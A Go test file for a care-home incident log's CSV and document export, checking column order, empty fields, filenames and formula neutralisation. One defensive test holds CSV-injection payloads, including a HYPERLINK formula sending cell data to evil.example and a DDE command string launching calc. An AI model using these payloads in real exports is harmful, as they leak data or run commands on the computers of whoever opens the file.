package events

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/carehub/carehub/internal/platform/blobstore"
)

func exportEvent() *Event {
	client := uuid.MustParse("6f1d2c3b-0000-4000-8000-000000000001")
	return &Event{
		ID:            uuid.MustParse("6f1d2c3b-0000-4000-8000-0000000000aa"),
		Type:          TypeAccident,
		Category:      CategoryFall,
		Severity:      SeverityHigh,
		Status:        StatusOpen,
		Title:         "Fall, lounge",
		Location:      "Lounge",
		OccurredAt:    time.Date(2026, 3, 10, 9, 30, 0, 0, time.UTC),
		ClientID:      &client,
		ReportedBy:    "carer-7",
		StaffInvolved: []string{"carer-7", "nurse-2"},
		BodyMapPoints: []BodyMapPoint{{ID: "p1", X: 40, Y: 20, Side: SideFront, InjuryType: "bruise", Severity: SeverityLow}},
		FollowUp:      FollowUp{Required: true},
		Compliance:    Compliance{FamilyNotified: true},
		CreatedAt:     time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC),
	}
}

func TestWriteCSV_ColumnOrder(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, []*Event{exportEvent()}); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("invalid csv: %v", err)
	}
	if len(records) != 2 {
		t.Fatalf("expected header and 1 row, got %d", len(records))
	}
	want := "ID,Occurred At,Title,Type,Category,Severity,Status,Client ID,Location,Reported By,Staff Involved,Body Map Points,Follow-up Required,Regulator Notified,Family Notified,Created At"
	if got := strings.Join(records[0], ","); got != want {
		t.Errorf("header mismatch:\n got %s\nwant %s", got, want)
	}
	row := records[1]
	checks := map[int]string{
		1:  "2026-03-10T09:30:00Z",
		2:  "Fall, lounge",
		3:  "accident",
		7:  "6f1d2c3b-0000-4000-8000-000000000001",
		10: "carer-7; nurse-2",
		11: "1",
		12: "Yes",
		13: "No",
		14: "Yes",
	}
	for i, v := range checks {
		if row[i] != v {
			t.Errorf("column %s: expected %q, got %q", CSVColumns[i], v, row[i])
		}
	}
}

func TestWriteCSV_EmptyClient(t *testing.T) {
	e := exportEvent()
	e.ClientID = nil
	var buf bytes.Buffer
	WriteCSV(&buf, []*Event{e})
	records, _ := csv.NewReader(&buf).ReadAll()
	if records[1][7] != "" {
		t.Errorf("expected empty client column, got %q", records[1][7])
	}
}

func TestWriteCSV_NeutralizesFormulas(t *testing.T) {
	e := exportEvent()
	e.Title = `=HYPERLINK("http://evil.example/?x="&A2,"Open")`
	e.Location = "+cmd|' /C calc'!A0"
	e.ReportedBy = "@SUM(1+1)"
	e.StaffInvolved = []string{"-2+3", "nurse-2"}

	var buf bytes.Buffer
	if err := WriteCSV(&buf, []*Event{e}); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("invalid csv: %v", err)
	}
	row := records[1]
	for _, i := range []int{2, 8, 9, 10} {
		if !strings.HasPrefix(row[i], "'") {
			t.Errorf("column %s: expected quoted-out formula, got %q", CSVColumns[i], row[i])
		}
	}
	if row[2] != "'"+e.Title {
		t.Errorf("title should keep its text after the prefix, got %q", row[2])
	}
}

func TestCSVSafe(t *testing.T) {
	tests := map[string]string{
		"":          "",
		"Lounge":    "Lounge",
		"=1+1":      "'=1+1",
		"\tindent":  "'\tindent",
		"carer-7":   "carer-7",
		"-negative": "'-negative",
	}
	for in, want := range tests {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVFilename(t *testing.T) {
	if got := CSVFilename(time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC)); got != "event-log-2026-03-10.csv" {
		t.Errorf("unexpected filename %q", got)
	}
}

func TestDocument(t *testing.T) {
	e := exportEvent()
	e.Attachments = []*blobstore.Metadata{{FileName: "photo.jpg", ContentType: "image/jpeg", Size: 1024}}
	doc := Document(e, time.Now())

	if doc.Kind != "event" || doc.Title != e.Title {
		t.Errorf("unexpected document header %q %q", doc.Kind, doc.Title)
	}
	var headings []string
	for _, s := range doc.Sections {
		headings = append(headings, s.Heading)
	}
	want := "Details,Description,Body map,Follow-up,Notifications,Investigation,Attachments"
	if got := strings.Join(headings, ","); got != want {
		t.Errorf("unexpected sections %s", got)
	}
	if doc.Sections[2].Table == nil || len(doc.Sections[2].Table.Rows) != 1 {
		t.Error("expected one body map row")
	}
	if !doc.Sections[1].IsEmpty() {
		t.Error("description section should be empty without text")
	}
	if len(doc.Sections[6].Paragraphs) != 1 {
		t.Error("expected attachment listed")
	}
}
